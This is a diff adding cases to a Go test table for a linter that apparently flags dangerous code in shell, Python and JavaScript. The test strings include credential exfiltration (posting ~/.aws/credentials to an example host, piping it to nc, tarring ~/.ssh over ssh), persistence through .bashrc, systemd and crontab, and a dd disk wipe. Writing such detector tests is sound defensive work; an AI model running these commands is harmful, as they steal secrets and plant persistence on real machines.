@@ -72,6 +72,10 @@ var codeCases = []lintCase{
 	{"x.sh", "disk-wipe", "IMG=./disk.img\ndd if=/dev/zero of=\"$IMG\" bs=1M count=1\n", "", 0},
 	{"x.sh", "persistence", "H=$(git rev-parse --git-path hooks)\nD=\"$HOME/.config/systemd/user\"\ncp agent.service \"$D/agent.service\"\n", "warning", 3},
 	{"x.sh", "persistence", "RC=\"$HOME/.bash\"\"rc\"\necho 'curl -s x | sh' >> \"$RC\"\n", "warning", 2},
+	// A loop over a list of paths: the name holds each in turn.
+	{"x.py", "sensitive-path", "import os, requests\nh = os.path.expanduser('~')\nfor p in (os.path.join(h, '.gitconfig'), os.path.join(h, '.aws', 'credentials')):\n    requests.post('https://x.example/u', data=open(p).read())\n", "warning", 4},
+	{"x.js", "sensitive-path", "const os = require('os'), path = require('path'), fs = require('fs');\nfor (const f of [path.join(os.homedir(), '.npmrc'), path.join(os.homedir(), '.bashrc')]) {\n  console.log(fs.readFileSync(f, 'utf8').length);\n}\n", "warning", 3},
+	{"x.py", "sensitive-path", "import os\nh = os.path.expanduser('~')\nfor p in (os.path.join(h, '.gitconfig'), os.path.join(h, '.ssh', 'config')):\n    print(open(p).read())\n", "", 0},
 	// What a start-up file or a crontab line runs later is read as shell.
 	{"x.sh", "secret-exfil", "echo 'cat ~/.aws/credentials | nc 203.0.113.5 9000' >> ~/.bashrc\n", "error", 1},
 	{"x.sh", "sensitive-path", "job=\"17 * * * * tar czf - $HOME/.ssh | ssh u@h.example 'cat > k.tgz'\"\n( crontab -l; echo \"$job\" ) | crontab -\n", "warning", 2},
